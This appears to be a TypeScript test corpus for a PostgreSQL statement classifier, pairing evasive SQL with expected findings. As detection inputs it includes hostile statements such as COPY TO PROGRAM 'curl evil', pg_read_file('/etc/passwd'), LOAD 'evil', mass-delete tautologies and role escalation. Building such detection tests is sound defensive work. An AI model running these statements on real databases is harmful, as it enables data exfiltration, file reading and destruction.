/**
 * Statements that try to look like less than they are, beside the plain forms of what they do. Append only: an
 * evasion that was found in the wild becomes an entry here first, then a fix. What an expectation leaves out is empty.
 */
import type { NameContext } from '../../../ext-proc/domain/ports.ts';
import type { Summary } from './summary.ts';

export type Expected = Partial<Summary> & {
  /** The text in the record, where it is not the statement's own. */
  readonly record?: string;
};

export interface CorpusEntry {
  readonly sql: string;
  readonly context?: Partial<NameContext>;
  readonly expect: readonly Expected[];
  /** An older server reads the text otherwise, and the entry is not for it. */
  readonly since?: number;
}

export const CORPUS: readonly CorpusEntry[] = [
  {
    sql: 'SELECT * FROM people',
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.people.* target'],
      },
    ],
  },
  {
    sql: 'TABLE people',
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.people.* target'],
      },
    ],
  },
  {
    sql: 'SELECT p FROM people p',
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.people.* target'],
      },
    ],
  },
  {
    sql: 'SELECT (p).card FROM people p',
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.people.* target'],
      },
    ],
  },
  {
    sql: 'SELECT p.* FROM people AS p(a,b,c,d,e)',
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.people.* target'],
      },
    ],
  },
  {
    sql: 'SELECT e FROM people AS p(a,b,c,d,e)',
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.people.card target'],
      },
    ],
  },
  {
    sql: 'SELECT card FROM (SELECT * FROM people) s',
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.people.* target'],
      },
    ],
  },
  {
    sql: 'SELECT x FROM (SELECT card AS x FROM people) s',
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.people.card target'],
      },
    ],
  },
  { sql: 'WITH people AS (SELECT 1 AS card) SELECT card FROM people', expect: [{ verbs: ['SELECT'] }] },
  {
    sql: 'WITH people AS (SELECT 1) DELETE FROM people',
    expect: [
      {
        verbs: ['DELETE'],
        writesTo: ['public.people'],
        through: ['public.people_archive'],
        unfiltered: ['public.people'],
        traits: ['has_cascades'],
        writes: true,
      },
    ],
  },
  {
    sql: 'WITH gone AS (DELETE FROM people RETURNING *) SELECT * FROM gone',
    expect: [
      {
        verbs: ['SELECT', 'DELETE'],
        writesTo: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.people.* target'],
        unfiltered: ['public.people'],
        traits: ['has_cascades', 'returning', 'writable_cte'],
        writes: true,
      },
    ],
  },
  {
    sql: "WITH a AS (WITH b AS (UPDATE secrets SET token = 'x') SELECT 1) SELECT * FROM a",
    expect: [
      {
        verbs: ['SELECT', 'UPDATE'],
        writesTo: ['public.secrets'],
        columns: ['public.secrets.token write'],
        unfiltered: ['public.secrets'],
        traits: ['writable_cte'],
        writes: true,
      },
    ],
  },
  {
    sql: 'SELECT o.leak FROM orders o',
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['public.orders'],
        columns: ['public.orders.* target'],
        functions: ['public.leak'],
      },
    ],
  },
  {
    sql: 'SELECT leak(o) FROM orders o',
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['public.orders'],
        columns: ['public.orders.* target'],
        functions: ['public.leak'],
      },
    ],
  },
  {
    sql: 'SELECT (o).leak FROM orders o',
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['public.orders'],
        columns: ['public.orders.* target'],
        functions: ['public.leak'],
      },
    ],
  },
  {
    sql: 'SELECT o.missing FROM orders o',
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['public.orders'],
        columns: ['public.orders.* target'],
        unknown: ['unresolved_column'],
        writes: true,
      },
    ],
  },
  {
    sql: 'SELECT U&"\\0070eople".card FROM "people"',
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.people.card target'],
      },
    ],
  },
  {
    sql: 'SELECT * FROM U&"\\0070eople"',
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.people.* target'],
      },
    ],
  },
  {
    sql: 'SELECT * FROM "People"',
    expect: [{ verbs: ['SELECT'], reads: ['public.People'], columns: ['public.People.* target'] }],
  },
  {
    sql: 'SELECT "Card" FROM "People" WHERE \'x\' === \'y\'',
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['public.People'],
        columns: ['public.People.Card target'],
        unknown: ['user_operator'],
        writes: true,
      },
    ],
  },
  {
    sql: 'SELECT * FROM people_public',
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['public.people_public'],
        through: ['public.people'],
        columns: ['public.people_public.* target'],
      },
    ],
  },
  {
    sql: 'SELECT c FROM cards',
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['public.cards'],
        through: ['public.people'],
        columns: ['public.cards.c target'],
      },
    ],
  },
  {
    sql: 'SELECT * FROM over_view',
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['public.over_view'],
        through: ['public.orders', 'public.people', 'public.people_public'],
        columns: ['public.over_view.* target'],
      },
    ],
  },
  {
    sql: 'SELECT * FROM roles_view',
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['public.roles_view'],
        through: ['pg_catalog.pg_authid'],
        columns: ['public.roles_view.* target'],
      },
    ],
  },
  {
    sql: 'SELECT * FROM file_view',
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['public.file_view'],
        columns: ['public.file_view.* target'],
        functions: ['pg_catalog.pg_read_file'],
        traits: ['file_access'],
        writes: true,
      },
    ],
  },
  {
    sql: 'SELECT * FROM people_copy',
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['public.people_copy'],
        through: ['public.people'],
        columns: ['public.people_copy.* target'],
      },
    ],
  },
  {
    sql: 'SELECT * FROM shadow.people',
    expect: [{ verbs: ['SELECT'], reads: ['shadow.people'], columns: ['shadow.people.* target'] }],
  },
  {
    sql: 'SELECT * FROM closed.orders',
    expect: [{ verbs: ['SELECT'], reads: ['closed.orders'], columns: ['closed.orders.* target'] }],
  },
  {
    sql: 'SELECT * FROM nowhere',
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['?nowhere'],
        columns: ['.* target'],
        unknown: ['unresolved_relation'],
        writes: true,
      },
    ],
  },
  {
    sql: 'SELECT * FROM other.public.people',
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['?other.public.people'],
        columns: ['.* target'],
        unknown: ['unresolved_relation'],
        writes: true,
      },
    ],
  },
  {
    sql: 'SELECT * FROM postgres.public.people',
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.people.* target'],
      },
    ],
  },
  {
    sql: "SELECT pg_read_file('/etc/passwd')",
    expect: [
      { verbs: ['SELECT'], functions: ['pg_catalog.pg_read_file'], traits: ['file_access'], writes: true },
    ],
  },
  {
    sql: "SELECT lo_import('/etc/passwd')",
    expect: [
      {
        verbs: ['SELECT'],
        functions: ['pg_catalog.lo_import'],
        traits: ['file_access', 'large_object'],
        writes: true,
      },
    ],
  },
  {
    sql: "SELECT query_to_xml('select * from people', true, true, '')",
    expect: [
      {
        verbs: ['SELECT'],
        functions: ['pg_catalog.query_to_xml'],
        traits: ['dynamic_sql'],
        unknown: ['dynamic_sql'],
        writes: true,
      },
    ],
  },
  {
    sql: "SELECT table_to_xml('people', true, true, '')",
    expect: [
      {
        verbs: ['SELECT'],
        functions: ['pg_catalog.table_to_xml'],
        traits: ['dynamic_sql'],
        unknown: ['dynamic_sql'],
        writes: true,
      },
    ],
  },
  {
    sql: "SELECT 'people'::regclass",
    expect: [{ verbs: ['SELECT'], reads: ['public.people'], through: ['public.people_archive'] }],
  },
  {
    sql: "SELECT CAST('shadow.people' AS pg_catalog.regclass), regclass 'secrets'",
    expect: [{ verbs: ['SELECT'], reads: ['public.secrets', 'shadow.people'] }],
  },
  {
    sql: "SELECT nextval('tickets'), setval('public.tickets'::regclass, 5), currval('tickets')",
    expect: [
      {
        verbs: ['SELECT'],
        traits: ['sequence_state'],
        reads: ['public.tickets'],
        writesTo: ['public.tickets'],
        functions: ['pg_catalog.currval', 'pg_catalog.nextval', 'pg_catalog.setval'],
        writes: true,
      },
    ],
  },
  {
    sql: 'SELECT people_count(), wipe()',
    expect: [{ verbs: ['SELECT'], functions: ['public.people_count', 'public.wipe'], writes: true }],
  },
  {
    sql: 'SELECT lower(name) FROM people',
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.people.name target'],
        functions: ['pg_catalog.lower', 'public.lower'],
      },
    ],
  },
  {
    sql: 'SELECT * FROM people_count() AS t(n) WHERE n > 1',
    expect: [{ verbs: ['SELECT'], functions: ['public.people_count'] }],
  },
  {
    sql: 'SELECT x.n FROM orders o, LATERAL (SELECT o.total AS n) x',
    expect: [{ verbs: ['SELECT'], reads: ['public.orders'], columns: ['public.orders.total target'] }],
  },
  {
    sql: 'SELECT total FROM orders o, (SELECT person_id) s',
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['public.orders'],
        columns: ['.person_id target', 'public.orders.total target'],
        unknown: ['unresolved_column'],
        writes: true,
      },
    ],
  },
  {
    sql: 'DELETE FROM people WHERE true',
    expect: [
      {
        verbs: ['DELETE'],
        writesTo: ['public.people'],
        through: ['public.people_archive'],
        unfiltered: ['public.people'],
        traits: ['has_cascades'],
        writes: true,
      },
    ],
  },
  {
    sql: 'DELETE FROM people WHERE 1=1',
    expect: [
      {
        verbs: ['DELETE'],
        writesTo: ['public.people'],
        through: ['public.people_archive'],
        unfiltered: ['public.people'],
        traits: ['has_cascades'],
        writes: true,
      },
    ],
  },
  {
    sql: "DELETE FROM people WHERE 'a'='a' AND NOT false",
    expect: [
      {
        verbs: ['DELETE'],
        writesTo: ['public.people'],
        through: ['public.people_archive'],
        unfiltered: ['public.people'],
        traits: ['has_cascades'],
        writes: true,
      },
    ],
  },
  {
    sql: 'DELETE FROM people WHERE id = id',
    expect: [
      {
        verbs: ['DELETE'],
        writesTo: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.people.id filter'],
        unfiltered: ['public.people'],
        traits: ['has_cascades'],
        writes: true,
      },
    ],
  },
  {
    sql: 'DELETE FROM people WHERE id IS NULL OR id IS NOT NULL',
    expect: [
      {
        verbs: ['DELETE'],
        writesTo: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.people.id filter'],
        unfiltered: ['public.people'],
        traits: ['has_cascades'],
        writes: true,
      },
    ],
  },
  {
    sql: 'DELETE FROM people WHERE id = 1 OR true',
    expect: [
      {
        verbs: ['DELETE'],
        writesTo: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.people.id filter'],
        unfiltered: ['public.people'],
        traits: ['has_cascades'],
        writes: true,
      },
    ],
  },
  {
    sql: "DELETE FROM people WHERE name LIKE '%'",
    expect: [
      {
        verbs: ['DELETE'],
        writesTo: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.people.name filter'],
        unfiltered: ['public.people'],
        traits: ['has_cascades'],
        writes: true,
      },
    ],
  },
  {
    sql: 'DELETE FROM people USING orders WHERE orders.id = 1',
    expect: [
      {
        verbs: ['DELETE'],
        reads: ['public.orders'],
        writesTo: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.orders.id filter'],
        unfiltered: ['public.people'],
        traits: ['has_cascades'],
        writes: true,
      },
    ],
  },
  {
    sql: 'DELETE FROM people USING orders WHERE orders.person_id = people.id',
    expect: [
      {
        verbs: ['DELETE'],
        reads: ['public.orders'],
        writesTo: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.orders.person_id filter', 'public.people.id filter'],
        traits: ['has_cascades'],
        writes: true,
      },
    ],
  },
  {
    sql: 'DELETE FROM people WHERE EXISTS (SELECT 1 FROM orders)',
    expect: [
      {
        verbs: ['DELETE'],
        reads: ['public.orders'],
        writesTo: ['public.people'],
        through: ['public.people_archive'],
        unfiltered: ['public.people'],
        traits: ['has_cascades'],
        writes: true,
      },
    ],
  },
  {
    sql: 'DELETE FROM people WHERE EXISTS (SELECT 1 FROM orders WHERE person_id = people.id)',
    expect: [
      {
        verbs: ['DELETE'],
        reads: ['public.orders'],
        writesTo: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.orders.person_id filter', 'public.people.id filter'],
        traits: ['has_cascades'],
        writes: true,
      },
    ],
  },
  {
    sql: 'DELETE FROM people WHERE $1',
    expect: [
      {
        verbs: ['DELETE'],
        writesTo: ['public.people'],
        through: ['public.people_archive'],
        unfiltered: ['public.people'],
        traits: ['has_cascades'],
        writes: true,
      },
    ],
  },
  {
    sql: 'DELETE FROM people WHERE id = $1',
    expect: [
      {
        verbs: ['DELETE'],
        writesTo: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.people.id filter'],
        traits: ['has_cascades'],
        writes: true,
      },
    ],
  },
  {
    sql: 'DELETE FROM people WHERE CURRENT OF c',
    expect: [
      {
        verbs: ['DELETE'],
        writesTo: ['public.people'],
        through: ['public.people_archive'],
        traits: ['has_cascades'],
        writes: true,
      },
    ],
  },
  {
    sql: "UPDATE people SET card = 'x'",
    expect: [
      {
        verbs: ['UPDATE'],
        writesTo: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.people.card write'],
        unfiltered: ['public.people'],
        traits: ['has_cascades'],
        writes: true,
      },
    ],
  },
  {
    sql: "UPDATE people SET card = 'x' WHERE id = 1",
    expect: [
      {
        verbs: ['UPDATE'],
        writesTo: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.people.card write', 'public.people.id filter'],
        traits: ['has_cascades'],
        writes: true,
      },
    ],
  },
  {
    sql: 'UPDATE people SET (name, card) = (SELECT label, token FROM secrets) WHERE id = 1',
    expect: [
      {
        verbs: ['UPDATE'],
        reads: ['public.secrets'],
        writesTo: ['public.people'],
        through: ['public.people_archive'],
        columns: [
          'public.people.card write',
          'public.people.id filter',
          'public.people.name write',
          'public.secrets.label target',
          'public.secrets.token target',
        ],
        traits: ['has_cascades'],
        writes: true,
      },
    ],
  },
  {
    sql: 'UPDATE orders SET total = total + 1 WHERE id = 5 RETURNING *',
    expect: [
      {
        verbs: ['UPDATE'],
        writesTo: ['public.orders'],
        columns: [
          'public.orders.* target',
          'public.orders.id filter',
          'public.orders.total other',
          'public.orders.total write',
        ],
        traits: ['has_triggers', 'returning'],
        writes: true,
      },
    ],
  },
  {
    sql: 'MERGE INTO people USING (SELECT 1) s ON true WHEN MATCHED THEN DELETE',
    expect: [
      {
        verbs: ['MERGE', 'DELETE'],
        writesTo: ['public.people'],
        through: ['public.people_archive'],
        unfiltered: ['public.people'],
        traits: ['has_cascades'],
        writes: true,
      },
    ],
  },
  {
    sql: 'MERGE INTO people p USING orders o ON p.id = o.person_id WHEN MATCHED AND o.total > 5 THEN UPDATE SET notes = o.note WHEN NOT MATCHED THEN INSERT (id, name) VALUES (o.id, o.note)',
    expect: [
      {
        verbs: ['MERGE', 'UPDATE', 'INSERT'],
        reads: ['public.orders'],
        writesTo: ['public.people'],
        through: ['public.people_archive'],
        columns: [
          'public.orders.id other',
          'public.orders.note other',
          'public.orders.person_id filter',
          'public.orders.total filter',
          'public.people.id filter',
          'public.people.id write',
          'public.people.name write',
          'public.people.notes write',
        ],
        traits: ['has_cascades'],
        writes: true,
      },
    ],
  },
  {
    sql: 'INSERT INTO people SELECT * FROM people_archive',
    expect: [
      {
        verbs: ['INSERT'],
        reads: ['public.people_archive'],
        writesTo: ['public.people'],
        columns: ['public.people.* write', 'public.people_archive.* target'],
        traits: ['has_cascades'],
        writes: true,
      },
    ],
  },
  {
    sql: "INSERT INTO people (id, name) VALUES (1, 'a') ON CONFLICT (id) DO UPDATE SET name = excluded.name WHERE people.id > 3",
    expect: [
      {
        verbs: ['INSERT', 'UPDATE'],
        writesTo: ['public.people'],
        columns: ['public.people.id filter', 'public.people.id write', 'public.people.name write'],
        traits: ['has_cascades', 'on_conflict'],
        writes: true,
      },
    ],
  },
  {
    sql: "INSERT INTO mailbox VALUES (1, 'x')",
    expect: [
      {
        verbs: ['INSERT'],
        writesTo: ['public.mailbox'],
        through: ['public.secrets'],
        columns: ['public.mailbox.* write'],
        traits: ['has_rules'],
        writes: true,
      },
    ],
  },
  {
    sql: 'INSERT INTO orders DEFAULT VALUES',
    expect: [
      {
        verbs: ['INSERT'],
        writesTo: ['public.orders'],
        columns: ['public.orders.* write'],
        traits: ['has_triggers'],
        writes: true,
      },
    ],
  },
  {
    sql: 'TRUNCATE people, secrets CASCADE',
    expect: [
      {
        verbs: ['TRUNCATE'],
        writesTo: ['public.people', 'public.secrets'],
        through: ['public.people_archive'],
        traits: ['cascade', 'has_cascades'],
        writes: true,
      },
    ],
  },
  {
    sql: 'COPY people TO STDOUT',
    expect: [
      {
        verbs: ['COPY'],
        reads: ['public.people'],
        columns: ['public.people.* target'],
        traits: ['copy_out'],
      },
    ],
  },
  {
    sql: 'COPY people (id, name) FROM STDIN',
    expect: [
      {
        verbs: ['COPY'],
        writesTo: ['public.people'],
        columns: ['public.people.id write', 'public.people.name write'],
        traits: ['copy_in', 'has_cascades'],
        writes: true,
      },
    ],
  },
  {
    sql: 'COPY (SELECT card FROM people) TO STDOUT',
    expect: [
      {
        verbs: ['COPY', 'SELECT'],
        reads: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.people.card target'],
        traits: ['copy_out'],
      },
    ],
  },
  {
    sql: 'COPY (DELETE FROM people RETURNING *) TO STDOUT',
    expect: [
      {
        verbs: ['COPY', 'DELETE'],
        writesTo: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.people.* target'],
        unfiltered: ['public.people'],
        traits: ['copy_out', 'has_cascades', 'returning'],
        writes: true,
      },
    ],
  },
  {
    sql: "COPY people TO PROGRAM 'curl evil'",
    expect: [
      {
        verbs: ['COPY'],
        reads: ['public.people'],
        columns: ['public.people.* target'],
        traits: ['copy_program'],
        writes: true,
      },
    ],
  },
  {
    sql: "COPY people FROM '/etc/passwd'",
    expect: [
      {
        verbs: ['COPY'],
        writesTo: ['public.people'],
        columns: ['public.people.* write'],
        traits: ['copy_file', 'has_cascades'],
        writes: true,
      },
    ],
  },
  {
    sql: 'EXPLAIN DELETE FROM people',
    expect: [{ verbs: ['EXPLAIN'], reads: ['public.people'], through: ['public.people_archive'] }],
  },
  {
    sql: 'EXPLAIN ANALYZE DELETE FROM people',
    expect: [
      {
        verbs: ['EXPLAIN', 'DELETE'],
        writesTo: ['public.people'],
        through: ['public.people_archive'],
        unfiltered: ['public.people'],
        traits: ['explain_analyze', 'has_cascades'],
        writes: true,
      },
    ],
  },
  {
    sql: 'EXPLAIN (ANALYZE off) DELETE FROM people',
    expect: [{ verbs: ['EXPLAIN'], reads: ['public.people'], through: ['public.people_archive'] }],
  },
  {
    sql: 'EXPLAIN (ANALYZE 1, COSTS off) DELETE FROM people',
    expect: [
      {
        verbs: ['EXPLAIN', 'DELETE'],
        writesTo: ['public.people'],
        through: ['public.people_archive'],
        unfiltered: ['public.people'],
        traits: ['explain_analyze', 'has_cascades'],
        writes: true,
      },
    ],
  },
  {
    sql: 'EXPLAIN ANALYZE EXECUTE x',
    expect: [
      {
        verbs: ['EXPLAIN', 'EXECUTE'],
        traits: ['explain_analyze', 'prepared'],
        unknown: ['nested_execute'],
        writes: true,
      },
    ],
  },
  {
    sql: 'PREPARE x AS DELETE FROM people',
    expect: [
      {
        verbs: ['PREPARE', 'DELETE'],
        writesTo: ['public.people'],
        through: ['public.people_archive'],
        unfiltered: ['public.people'],
        traits: ['has_cascades', 'prepared'],
        writes: true,
      },
    ],
  },
  { sql: 'EXECUTE x(1)', expect: [{ verbs: ['EXECUTE'], traits: ['prepared'], writes: true }] },
  {
    sql: 'DECLARE c CURSOR FOR SELECT card FROM people',
    expect: [
      {
        verbs: ['DECLARE', 'SELECT'],
        reads: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.people.card target'],
        traits: ['cursor'],
      },
    ],
  },
  { sql: 'FETCH ALL FROM c', expect: [{ verbs: ['FETCH'], traits: ['cursor'] }] },
  {
    sql: 'SELECT * INTO stolen FROM people',
    expect: [
      {
        verbs: ['SELECT INTO', 'SELECT'],
        reads: ['public.people'],
        defines: ['public.stolen'],
        through: ['public.people_archive'],
        columns: ['public.people.* target'],
        traits: ['select_into'],
        writes: true,
      },
    ],
  },
  {
    sql: 'CREATE TABLE stolen AS SELECT * FROM people',
    expect: [
      {
        verbs: ['CREATE TABLE AS', 'SELECT'],
        reads: ['public.people'],
        defines: ['public.stolen'],
        through: ['public.people_archive'],
        columns: ['public.people.* target'],
        writes: true,
      },
    ],
  },
  {
    sql: 'CREATE TEMP TABLE people AS SELECT * FROM shadow.people',
    expect: [
      {
        verbs: ['CREATE TABLE AS', 'SELECT'],
        reads: ['shadow.people'],
        defines: ['pg_temp.people'],
        columns: ['shadow.people.* target'],
        traits: ['temporary'],
        writes: true,
      },
    ],
  },
  {
    sql: 'CREATE VIEW v AS SELECT card FROM people',
    expect: [
      {
        verbs: ['CREATE VIEW'],
        reads: ['public.people'],
        defines: ['public.v'],
        through: ['public.people_archive'],
        columns: ['public.people.card target'],
        writes: true,
      },
    ],
  },
  {
    sql: 'CREATE TABLE t (id int DEFAULT wipe(), p int REFERENCES people)',
    expect: [
      {
        verbs: ['CREATE TABLE'],
        reads: ['public.people'],
        defines: ['public.t'],
        through: ['public.people_archive'],
        columns: ['public.people.* filter'],
        functions: ['public.wipe'],
        writes: true,
      },
    ],
  },
  {
    sql: 'CREATE RULE r AS ON SELECT TO orders DO INSTEAD DELETE FROM people',
    expect: [
      {
        verbs: ['CREATE RULE'],
        reads: ['public.people'],
        defines: ['public.orders'],
        through: ['public.people_archive'],
        writes: true,
      },
    ],
  },
  {
    sql: 'CREATE TRIGGER t BEFORE INSERT ON people FOR EACH ROW EXECUTE FUNCTION trigger_it()',
    expect: [
      {
        verbs: ['CREATE TRIGGER'],
        defines: ['public.people'],
        through: ['public.people_archive'],
        functions: ['public.trigger_it'],
        writes: true,
      },
    ],
  },
  {
    sql: "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'DELETE FROM people; SELECT 1'",
    expect: [{ verbs: ['CREATE FUNCTION'], traits: ['function_body'], writes: true }],
  },
  {
    sql: 'CREATE FUNCTION f() RETURNS bigint LANGUAGE sql BEGIN ATOMIC SELECT count(*) FROM people; END',
    expect: [
      {
        verbs: ['CREATE FUNCTION'],
        reads: ['public.people'],
        through: ['public.people_archive'],
        functions: ['pg_catalog.count'],
        traits: ['function_body', 'sql_body'],
        writes: true,
      },
    ],
  },
  {
    sql: 'ALTER TABLE people RENAME TO p2',
    expect: [
      {
        verbs: ['ALTER TABLE'],
        defines: ['public.p2', 'public.people'],
        through: ['public.people_archive'],
        writes: true,
      },
    ],
  },
  {
    sql: 'ALTER TABLE people DROP COLUMN card',
    expect: [
      {
        verbs: ['ALTER TABLE'],
        defines: ['public.people'],
        through: ['public.people_archive'],
        writes: true,
      },
    ],
  },
  {
    sql: 'ALTER TABLE orders ADD CONSTRAINT fk FOREIGN KEY (id) REFERENCES people',
    expect: [
      {
        verbs: ['ALTER TABLE'],
        reads: ['public.people'],
        defines: ['public.orders'],
        through: ['public.people_archive'],
        columns: ['public.people.* filter'],
        writes: true,
      },
    ],
  },
  {
    sql: 'DROP TABLE people, public.secrets CASCADE',
    expect: [
      {
        verbs: ['DROP TABLE'],
        defines: ['public.people', 'public.secrets'],
        through: ['public.people_archive'],
        traits: ['cascade'],
        writes: true,
      },
    ],
  },
  {
    sql: 'DROP VIEW IF EXISTS cards',
    expect: [{ verbs: ['DROP VIEW'], defines: ['public.cards'], through: ['public.people'], writes: true }],
  },
  {
    sql: 'DROP TRIGGER orders_changed ON orders',
    expect: [{ verbs: ['DROP TRIGGER'], defines: ['public.orders'], writes: true }],
  },
  { sql: 'DROP FUNCTION wipe()', expect: [{ verbs: ['DROP FUNCTION'], writes: true }] },
  {
    sql: 'DROP SCHEMA shadow CASCADE',
    expect: [{ verbs: ['DROP SCHEMA'], traits: ['cascade'], writes: true }],
  },
  {
    sql: 'GRANT SELECT ON people TO PUBLIC',
    expect: [
      { verbs: ['GRANT'], defines: ['public.people'], through: ['public.people_archive'], writes: true },
    ],
  },
  { sql: 'GRANT ALL ON ALL TABLES IN SCHEMA public TO x', expect: [{ verbs: ['GRANT'], writes: true }] },
  { sql: 'GRANT postgres TO x', expect: [{ verbs: ['GRANT'], traits: ['grant_role'], writes: true }] },
  {
    sql: "CREATE ROLE x PASSWORD 'hunter2' SUPERUSER",
    expect: [
      { verbs: ['CREATE ROLE'], writes: true, record: "CREATE ROLE x PASSWORD '[redacted]' SUPERUSER" },
    ],
  },
  {
    sql: 'ALTER ROLE x SET search_path = shadow',
    expect: [{ verbs: ['ALTER ROLE'], traits: ['search_path_change'], writes: true }],
  },
  {
    sql: "ALTER USER x PASSWORD 'abc' -- secret comment",
    expect: [
      { verbs: ['ALTER ROLE'], writes: true, record: "ALTER USER x PASSWORD '[redacted]' /* [redacted] */" },
    ],
  },
  { sql: 'SET search_path = shadow, public', expect: [{ verbs: ['SET'], traits: ['search_path_change'] }] },
  {
    sql: 'SET search_path TO "Shadow", \'a, b\'',
    expect: [{ verbs: ['SET'], traits: ['search_path_change'] }],
  },
  { sql: 'SET LOCAL search_path FROM CURRENT', expect: [{ verbs: ['SET'], traits: ['search_path_change'] }] },
  { sql: 'RESET search_path', expect: [{ verbs: ['RESET'], traits: ['search_path_change'] }] },
  { sql: 'RESET ALL', expect: [{ verbs: ['RESET'], traits: ['search_path_change'] }] },
  { sql: 'SET ROLE postgres', expect: [{ verbs: ['SET'], traits: ['set_role'] }] },
  {
    sql: 'SET SESSION AUTHORIZATION postgres',
    expect: [{ verbs: ['SET'], traits: ['set_session_authorization'] }],
  },
  {
    sql: 'SET standard_conforming_strings = off',
    expect: [{ verbs: ['SET'], traits: ['parsing_change'], unknown: ['parsing_change'], writes: true }],
  },
  {
    sql: 'SET app.password = hunter2',
    expect: [{ verbs: ['SET'], record: "SET app.password = '[redacted]'" }],
  },
  {
    sql: "SELECT set_config('search_path', 'shadow', false)",
    expect: [
      {
        verbs: ['SELECT'],
        functions: ['pg_catalog.set_config'],
        traits: ['search_path_change', 'set_config'],
        writes: true,
      },
    ],
  },
  {
    sql: "SELECT set_config('app.token', 'abc', false)",
    expect: [
      {
        verbs: ['SELECT'],
        functions: ['pg_catalog.set_config'],
        traits: ['set_config'],
        writes: true,
        record: "SELECT set_config('[redacted]', '[redacted]', false)",
      },
    ],
  },
  {
    sql: "SELECT set_config(name, 'x', false) FROM people",
    expect: [
      {
        verbs: ['SELECT'],
        reads: ['public.people'],
        through: ['public.people_archive'],
        columns: ['public.people.name target'],
        functions: ['pg_catalog.set_config'],
        traits: ['search_path_change', 'set_config', 'set_role'],
        unknown: ['dynamic_setting'],
        writes: true,
        record: "SELECT set_config(name, '[redacted]', false) FROM people",
      },
    ],
  },
  {
    sql: "UPDATE pg_settings SET setting = 'x' WHERE name = 'search_path'",
    expect: [
      {
        verbs: ['UPDATE'],
        writesTo: ['pg_catalog.pg_settings'],
        columns: ['pg_catalog.pg_settings.name filter', 'pg_catalog.pg_settings.setting write'],
        traits: ['has_rules', 'search_path_change', 'set_config', 'set_role'],
        unknown: ['dynamic_setting'],
        writes: true,
      },
    ],
  },
  {
    sql: 'DO $$ BEGIN DELETE FROM people; END $$',
    expect: [{ verbs: ['DO'], traits: ['do_block'], unknown: ['do_body'], writes: true }],
  },
  {
    sql: 'CALL sweep()',
    expect: [{ verbs: ['CALL'], functions: ['public.sweep'], traits: ['call'], writes: true }],
  },
  { sql: 'LISTEN x', expect: [{ verbs: ['LISTEN'], traits: ['listen_notify'] }] },
  { sql: "NOTIFY x, 'payload'", expect: [{ verbs: ['NOTIFY'], traits: ['listen_notify'], writes: true }] },
  {
    sql: 'LOCK TABLE people IN ACCESS EXCLUSIVE MODE',
    expect: [
      {
        verbs: ['LOCK'],
        writesTo: ['public.people'],
        through: ['public.people_archive'],
        traits: ['has_cascades'],
        writes: true,
      },
    ],
  },
  {
    sql: 'VACUUM FULL people',
    expect: [
      { verbs: ['VACUUM'], defines: ['public.people'], through: ['public.people_archive'], writes: true },
    ],
  },
  { sql: 'ANALYZE', expect: [{ verbs: ['ANALYZE'], writes: true }] },
  {
    sql: 'REINDEX TABLE people',
    expect: [
      { verbs: ['REINDEX'], defines: ['public.people'], through: ['public.people_archive'], writes: true },
    ],
  },
  {
    sql: 'REFRESH MATERIALIZED VIEW people_copy',
    expect: [
      {
        verbs: ['REFRESH MATERIALIZED VIEW'],
        writesTo: ['public.people_copy'],
        through: ['public.people'],
        writes: true,
      },
    ],
  },
  { sql: 'CHECKPOINT', expect: [{ verbs: ['CHECKPOINT'], writes: true }] },
  {
    sql: "LOAD 'evil'",
    expect: [{ verbs: ['LOAD'], traits: ['file_access', 'load_library'], writes: true }],
  },
  { sql: "ALTER SYSTEM SET archive_command = 'curl'", expect: [{ verbs: ['ALTER SYSTEM'], writes: true }] },
  { sql: 'BEGIN', expect: [{ verbs: ['BEGIN'], traits: ['transaction_control'] }] },
  {
    sql: "COMMIT PREPARED 'x'",
    expect: [{ verbs: ['COMMIT PREPARED'], traits: ['transaction_control', 'two_phase'], writes: true }],
  },
